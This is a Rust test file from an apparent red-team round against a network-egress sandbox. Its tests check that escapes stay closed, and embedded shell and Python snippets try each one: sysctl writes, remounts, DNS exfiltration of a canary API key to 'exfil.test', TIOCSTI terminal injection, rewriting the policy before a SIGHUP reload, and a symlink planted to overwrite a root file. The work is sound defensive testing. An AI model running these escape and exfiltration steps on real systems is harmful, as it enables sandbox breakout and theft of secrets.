//! Round 3 of the red team on `egress-fence exec` (issue 12): the fixes of round 2 (CMD's
//! user, a /proc of its own, the canary's encodings) attacked again, and what round 2 did not
//! try (sysctls, mounts, sudo's user, the canary over TCP, two runs at once, signals). A
//! way out it found is closed; these tests keep them closed, beside the attempts that held.

use std::process::{Command, Stdio};
use std::time::Duration;

use egress_fence::exec::canary;

use crate::common::exec::*;
use crate::common::*;

/// CMD's sysctls and /sys: a sysctl or a /sys file checks only its mode against uid 0, no
/// capability, so CMD as root could write the fence namespace's sysctls (`ping_group_range`)
/// and, by mode, the host's (`kernel/core_pattern`: a program the kernel runs as full root at
/// the next crash; only access(2) is asked here). Closed: CMD never runs as root unless told
/// `--user root`, and another user writes none of them; /sys is a fresh read-only one, also
/// for root. /proc/sys stays writable by mode to an explicit `--user root` (a read-only mount
/// over it would keep a cage inside, bwrap, from mounting a /proc of its own); the README
/// says so.
#[test]
fn root_cannot_write_sysctls_through_its_proc() {
    let w = World::new();
    let policy = setup(&w);
    let script = r#"
echo '0 2147483647' > /proc/sys/net/ipv4/ping_group_range 2>/dev/null && echo net-sysctl-written
python3 -c "import os; print('kernel-sysctl-writable' if os.access('/proc/sys/kernel/core_pattern', os.W_OK) else '')"
python3 -c "import os; print('sysrq-writable' if os.access('/proc/sysrq-trigger', os.W_OK) else '')"
python3 -c "import os; print('sysfs-writable' if os.access('/sys/kernel/mm/transparent_hugepage/enabled', os.W_OK) else '')"
exit 0"#;
    let out = exec(&w, &policy, &["--user", "nobody"], script);
    let text = stdout_of(&out);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    for leak in [
        "net-sysctl-written",
        "kernel-sysctl-writable",
        "sysrq-writable",
        "sysfs-writable",
    ] {
        assert!(!text.contains(leak), "{leak}\n{}", show(&out));
    }
    let as_root = exec(&w, &policy, &["--user", "root"], script);
    assert!(
        !stdout_of(&as_root).contains("sysfs-writable"),
        "root writes /sys\n{}",
        show(&as_root)
    );
}

/// What held: as root without capabilities, CMD can neither unmount the guard's resolv.conf,
/// nor mount a /proc or a bind of its own, nor enter another mount namespace; /etc/resolv.conf
/// names the guard; its /proc shows only the inside's pid namespace (exec is not in it).
#[test]
fn root_cannot_remount_or_unmount_what_exec_mounted() {
    let w = World::new();
    let policy = setup(&w);
    let script = r#"
umount /etc/resolv.conf 2>/dev/null && echo unmounted-resolv
umount -l /proc 2>/dev/null && echo unmounted-proc
mount -t proc proc /mnt 2>/dev/null && echo mounted-proc
mount --bind /tmp /mnt 2>/dev/null && echo bind-mounted
mount -o remount,rw /proc 2>/dev/null && echo remounted-proc
nsenter --mount=/proc/1/ns/mnt true 2>/dev/null && echo entered-mntns
grep -q "^nameserver $GUARD" /etc/resolv.conf && echo guard-named
for p in $(ls /proc | grep '^[0-9]'); do echo "proc $p $(cat /proc/$p/comm 2>/dev/null)"; done
test -e /proc/$PPID/stat && echo parent-visible
ls /proc | grep -c '^[0-9]' | sed 's/^/procs=/'
exit 0"#;
    let script = script.replace("$GUARD", &GUARD_ADDR.ip().to_string());
    let out = exec(&w, &policy, &["--user", "root"], &script);
    let text = stdout_of(&out);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    for leak in [
        "unmounted-resolv",
        "unmounted-proc",
        "mounted-proc",
        "bind-mounted",
        "remounted-proc",
        "entered-mntns",
    ] {
        assert!(!text.contains(leak), "{leak}\n{}", show(&out));
    }
    assert!(text.contains("guard-named"), "{}", show(&out));
    // exec (and its guard thread) is outside the pid namespace: only the inside, pid 1.
    let fence_processes: Vec<&str> = text
        .lines()
        .filter(|l| l.starts_with("proc ") && l.contains("egress-fence"))
        .collect();
    assert_eq!(fence_processes, ["proc 1 egress-fence"], "{}", show(&out));
}

/// A user of uid 0 under another name (`toor`, as BSDs ship), removed when dropped.
struct Uid0Alias(String);

impl Uid0Alias {
    fn create() -> Uid0Alias {
        let name = format!("eftoor{}", std::process::id());
        let status = Command::new("useradd")
            .args([
                "-o", "-u", "0", "-g", "0", "-M", "-N", "-s", "/bin/sh", &name,
            ])
            .status()
            .expect("run useradd");
        assert!(status.success(), "useradd {name}");
        Uid0Alias(name)
    }
}

impl Drop for Uid0Alias {
    fn drop(&mut self) {
        // -f: a uid-0 user is "in use" by every root process.
        let _ = Command::new("userdel").args(["-f", &self.0]).status();
    }
}

/// Without `--user`, CMD ran as $SUDO_USER unless that was empty or the word `root`: a
/// SUDO_USER naming another user of uid 0 (`toor`) ran CMD as root, unasked. Now the name's
/// uid is what is compared (`cmd_user`).
#[test]
fn a_sudo_user_of_uid_0_is_not_root_by_default() {
    let w = World::new();
    let policy = setup(&w);
    let toor = Uid0Alias::create();
    let out = exec_command_as(&w, &policy, &[], Some(&toor.0), "id -u")
        .output()
        .expect("run egress-fence exec");
    drop(toor);
    assert!(
        !stdout_of(&out).trim().eq("0"),
        "CMD ran as uid 0 by default\n{}",
        show(&out)
    );
    assert_eq!(out.status.code(), Some(2), "{}", show(&out));
}

/// What held: `--user 0` is no user name and is refused (CMD does not run; it does not count
/// as `--user root`); a SUDO_USER naming no user is refused too; `--user nobody` is nobody.
#[test]
fn a_uid_number_or_an_unknown_sudo_user_is_refused() {
    let w = World::new();
    let policy = setup(&w);
    let by_number = exec(&w, &policy, &["--user", "0"], "echo ran; id -u");
    assert!(
        !stdout_of(&by_number).contains("ran"),
        "{}",
        show(&by_number)
    );
    assert_ne!(by_number.status.code(), Some(0), "{}", show(&by_number));
    let unknown = exec_command_as(&w, &policy, &[], Some("ef-no-such-user"), "echo ran")
        .output()
        .expect("run egress-fence exec");
    assert!(!stdout_of(&unknown).contains("ran"), "{}", show(&unknown));
    assert_ne!(unknown.status.code(), Some(0), "{}", show(&unknown));
    let nobody = exec(&w, &policy, &["--user", "nobody"], "id -u");
    assert_eq!(nobody.status.code(), Some(0), "{}", show(&nobody));
    assert_ne!(stdout_of(&nobody).trim(), "0", "{}", show(&nobody));
}

fn token() -> String {
    canary::mint().expect("mint a token")
}

/// Encodings the canary does not know: each leaks the whole token and goes unseen. A
/// tripwire cannot know every encoding (the module says so), but these are one line each.
/// Fix: add base32hex and hex/base64 of the reversed token to `needles` (the fragments of
/// the reversed random part too), or say in the README which encodings are looked for.
#[test]
fn the_canary_knows_base32hex_and_hex_of_the_reversed_token() {
    let token = token();
    let needles = canary::needles(&token);
    let rev: String = token.chars().rev().collect();
    let hex_rev: String = rev.bytes().map(|b| format!("{b:02x}")).collect();
    let b32 = base32hex(token.as_bytes());
    assert!(
        canary::carries(&hex_rev, &needles),
        "hex of reversed: {hex_rev}"
    );
    assert!(canary::carries(&b32, &needles), "base32hex: {b32}");
}

/// Split into pieces shorter than the fragment (11 of the 32 random characters a question),
/// no question carries 12 of its characters (48 bits is what keeps innocent names from
/// tripping); the run's questions joined in order by their first labels do, and trip.
#[test]
fn the_canary_sees_the_token_in_pieces_shorter_than_a_fragment() {
    let token = token();
    let needles = canary::needles(&token);
    let chars: Vec<char> = token.chars().collect();
    let names: Vec<String> = chars
        .chunks(11)
        // `q` ends the piece: the names' labels are searched joined, and a hex digit after
        // it (`exfil`'s `e`) could complete a 12-character fragment by chance.
        .map(|c| format!("{}.q.test", c.iter().collect::<String>()))
        .collect();
    assert!(!names.iter().any(|name| canary::carries(name, &needles)));
    let mut joined = canary::Joined::default();
    let mut seen = false;
    for name in &names {
        seen |= joined.push(name, &needles);
    }
    assert!(
        seen,
        "the joined 11-character pieces of {token} do not trip"
    );
}

/// What held: the prefix `ck_live_` alone (plain, hex, base32, base64, shifted) trips
/// nothing, nor an innocent CDN-like name; upper-case hex trips.
#[test]
fn the_canary_prefix_alone_is_innocent_and_upper_case_hex_trips() {
    let token = token();
    let needles = canary::needles(&token);
    let prefix = b"ck_live_";
    let hex: String = prefix.iter().map(|b| format!("{b:02x}")).collect();
    for name in [
        "ck_live_.example.test".to_string(),
        format!("{hex}.example.test"),
        format!("{}.example.test", base32hex(prefix)),
        "d1a2b3c4e5f6a7.cloudfront.net".to_string(),
    ] {
        assert!(!canary::carries(&name, &needles), "{name} trips");
    }
    let upper: String = token.bytes().map(|b| format!("{b:02X}")).collect();
    assert!(canary::carries(&upper, &needles), "upper-case hex");
}

fn base32hex(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 32] = b"0123456789ABCDEFGHIJKLMNOPQRSTUV";
    let mut out = String::new();
    let (mut buffer, mut bits) = (0u32, 0u32);
    for &b in bytes {
        buffer = (buffer << 8) | b as u32;
        bits += 8;
        while bits >= 5 {
            bits -= 5;
            out.push(ALPHABET[((buffer >> bits) & 31) as usize] as char);
        }
    }
    if bits > 0 {
        out.push(ALPHABET[((buffer << (5 - bits)) & 31) as usize] as char);
    }
    out
}

/// The token, and the canary's host, asked over TCP (DNS over TCP to the guard): seen.
#[test]
fn the_canary_trips_on_questions_over_tcp() {
    let w = World::new();
    let policy = setup(&w);
    let token = exec(
        &w,
        &policy,
        &["--canary", "--user", "nobody"],
        "dig +tcp +time=1 +tries=1 \"$CANARY_API_KEY.exfil.test\" >/dev/null; exit 0",
    );
    assert_eq!(token.status.code(), Some(99), "{}", show(&token));
    let host = exec(
        &w,
        &policy,
        &["--canary", "--user", "nobody"],
        "h=${CANARY_WEBHOOK_URL#https://}; h=${h%%/*}; \
         dig +tcp +time=1 +tries=1 \"$h\" >/dev/null; exit 0",
    );
    assert_eq!(host.status.code(), Some(99), "{}", show(&host));
}

/// CMD killed by SIGKILL: exec exits 137, as a shell says.
#[test]
fn cmd_killed_by_sigkill_exits_137() {
    let w = World::new();
    let policy = setup(&w);
    let out = exec(&w, &policy, &["--user", "nobody"], "kill -9 $$");
    assert_eq!(out.status.code(), Some(137), "{}", show(&out));
}

/// CMD ignoring SIGTERM: exec passes it on and keeps waiting; CMD's own exit code comes
/// back when it ends by itself. SIGSTOP/SIGCONT of exec do not end the run.
#[test]
fn sigterm_ignored_by_cmd_and_sigstop_of_exec_keep_the_run() {
    let w = World::new();
    let policy = setup(&w);
    let child = exec_command_as(
        &w,
        &policy,
        &["--user", "nobody"],
        None,
        "trap '' TERM; sleep 4; exit 7",
    )
    .stdout(Stdio::piped())
    .spawn()
    .expect("start exec");
    std::thread::sleep(Duration::from_millis(2500));
    // timeout's child is exec: signal exec itself.
    let exec_pid = Command::new("pgrep")
        .args(["-P", &child.id().to_string()])
        .output()
        .expect("pgrep");
    let exec_pid = String::from_utf8_lossy(&exec_pid.stdout).trim().to_string();
    for sig in ["-STOP", "-CONT", "-TERM"] {
        let _ = Command::new("kill").args([sig, &exec_pid]).status();
        std::thread::sleep(Duration::from_millis(200));
    }
    let out = child.wait_with_output().expect("wait for exec");
    assert_eq!(out.status.code(), Some(7), "{}", show(&out));
}

/// Two runs at once: both run, neither removes the other's name or state, nothing is left.
#[test]
fn two_runs_at_once_do_not_disturb_each_other() {
    let w = World::new();
    let policy = setup(&w);
    let script = "sleep 3; grep -q '^nameserver' /etc/resolv.conf && echo ok";
    let first = exec_command_as(&w, &policy, &["--user", "nobody"], None, script)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start the first run");
    std::thread::sleep(Duration::from_millis(300));
    let second = exec(&w, &policy, &["--user", "nobody"], script);
    let first = first.wait_with_output().expect("wait for the first run");
    for out in [&first, &second] {
        assert_eq!(out.status.code(), Some(0), "{}", show(out));
        assert!(stdout_of(out).contains("ok"), "{}", show(out));
        assert!(
            !String::from_utf8_lossy(&out.stderr).contains("removed"),
            "{}",
            show(out)
        );
    }
}

/// CMD kept exec's controlling terminal (the inside made no session of its own), and this
/// kernel lets a process push characters into its controlling terminal's input
/// (`TIOCSTI`, `dev.tty.legacy_tiocsti = 1`): run from a terminal, CMD (even `--user
/// nobody`) types a command line into the shell that started exec, which runs it unfenced,
/// as root under sudo, once exec ends (bubblewrap's CVE-2017-5226). Shown under `script`'s
/// pty: the ioctl succeeds.
/// Now the inside calls `setsid()` before CMD starts: CMD has no controlling terminal, and
/// TIOCSTI fails (EIO/EPERM). A pty of CMD's own that exec relays (`sudo`'s use_pty) would
/// also keep job control for interactive programs.
#[test]
fn cmd_cannot_type_into_the_callers_terminal() {
    let w = World::new();
    let policy = setup(&w);
    let inject = "import fcntl, termios\ntry:\n    fcntl.ioctl(0, termios.TIOCSTI, b'#')\n    \
                  print('tiocsti-injected')\nexcept OSError as e:\n    print('refused', e)\n";
    let line = format!(
        "timeout -k 5 40 {EGRESS_FENCE_BIN} exec --netns {} --policy {policy} --user nobody \
         -- /usr/bin/python3 -c \"$INJECT\"",
        w.sandbox_name()
    );
    let out = Command::new("script")
        .args(["-qec", &line, "/dev/null"])
        .env("INJECT", inject)
        .env("EGRESS_FENCE_STATE_DIR", w.state_dir())
        .stdin(Stdio::null())
        .output()
        .expect("run exec under script's pty");
    let text = stdout_of(&out);
    assert!(
        !text.contains("tiocsti-injected") && text.contains("refused [Errno"),
        "CMD injected into the caller's terminal\n{}",
        show(&out)
    );
}

/// exec's daemon read the policy again from its path on SIGHUP, and nothing proved the
/// reloaded table against the plan: a policy file CMD's user may write (the user's own file,
/// as `sudo egress-fence exec --policy ./agent.yaml` gives) is rewritten by CMD to allow what
/// it wants, and the next SIGHUP of exec (a closed terminal sends one to its foreground
/// group; exec does not block it) applies it while CMD runs.
/// Now exec blocks SIGHUP before the daemon starts (the daemon inherits the mask) and drops
/// it from its signalfd.
#[test]
fn a_policy_rewritten_by_cmd_is_not_applied_on_sighup() {
    use std::os::unix::fs::PermissionsExt;
    let w = World::new();
    setup(&w);
    let listener = w.listen_tcp(HOST_V4, 9090);
    let dir = tempfile::Builder::new()
        .prefix("ef-red3-")
        .tempdir()
        .expect("a directory nobody can read");
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let policy = dir.path().join("agent.yaml");
    std::fs::write(&policy, policy_text()).expect("write the policy");
    let chown = Command::new("chown")
        .args(["nobody", policy.to_str().expect("utf-8 path")])
        .status()
        .expect("chown");
    assert!(chown.success());
    let wide = policy_text().replace(
        &format!("  - domain: \"{ALLOWED}\"\n    ports: [{PORT}]\n"),
        &format!("  - cidr: {HOST_V4}/32\n    ports: [9090]\n"),
    );
    let script = format!(
        "printf '%s' '{wide}' > {} && echo rewrote; sleep 4; \
         nc -z -w 2 {HOST_V4} 9090 && echo escaped; exit 0",
        policy.display()
    );
    let child = exec_command_as(
        &w,
        policy.to_str().expect("utf-8 path"),
        &["--user", "nobody"],
        None,
        &script,
    )
    .stdout(Stdio::piped())
    .stderr(Stdio::piped())
    .spawn()
    .expect("start exec");
    std::thread::sleep(Duration::from_millis(2500));
    let exec_pid = Command::new("pgrep")
        .args(["-P", &child.id().to_string()])
        .output()
        .expect("pgrep");
    let exec_pid = String::from_utf8_lossy(&exec_pid.stdout).trim().to_string();
    let _ = Command::new("kill").args(["-HUP", &exec_pid]).status();
    let out = child.wait_with_output().expect("wait for exec");
    assert!(stdout_of(&out).contains("rewrote"), "{}", show(&out));
    assert!(
        !stdout_of(&out).contains("escaped") && listener.count() == 0,
        "a policy CMD wrote was applied\n{}",
        show(&out)
    );
}

/// `--report PATH` is written by exec (root, unfenced) after CMD ended, by path, following
/// symlinks: when PATH is in a directory CMD's user may write (the user's own working
/// directory, as `sudo egress-fence exec --report ./report.json` gives), CMD replaces it
/// with a symlink and exec overwrites any file of the host with the report (shown on a
/// root-owned 0600 file; /etc/passwd would do). The report also carries names CMD chose.
/// Fix: open the report (`O_CREAT|O_NOFOLLOW`, truncate) before CMD starts and write the
/// open file at the end; or write it as the caller (SUDO_UID) rather than as root.
#[test]
fn the_report_does_not_follow_a_symlink_cmd_planted() {
    use std::os::unix::fs::PermissionsExt;
    let w = World::new();
    let policy = setup(&w);
    let dir = tempfile::Builder::new()
        .prefix("ef-red3-")
        .tempdir()
        .expect("the user's directory");
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).expect("chmod");
    let victim = w.write_file("victim", "root's own\n");
    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o600)).expect("chmod");
    let report = dir.path().join("report.json");
    let script = format!(
        "ln -sf {} {} && echo planted; exit 0",
        victim.display(),
        report.display()
    );
    let out = exec(
        &w,
        &policy,
        &[
            "--user",
            "nobody",
            "--report",
            report.to_str().expect("utf-8 path"),
        ],
        &script,
    );
    assert!(stdout_of(&out).contains("planted"), "{}", show(&out));
    let text = std::fs::read_to_string(&victim).expect("read the victim");
    assert_eq!(
        text,
        "root's own\n",
        "exec wrote through CMD's symlink\n{}",
        show(&out)
    );
}
